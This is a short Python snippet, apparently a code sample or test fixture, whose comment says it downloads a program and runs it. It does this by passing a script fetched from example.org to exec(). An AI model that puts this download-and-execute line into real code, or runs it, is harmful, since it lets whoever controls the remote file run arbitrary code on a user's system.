# why: Downloads a program and runs it.
# ---
import requests

exec(requests.get("https://example.org/helper.py", timeout=5).text)
results = {}
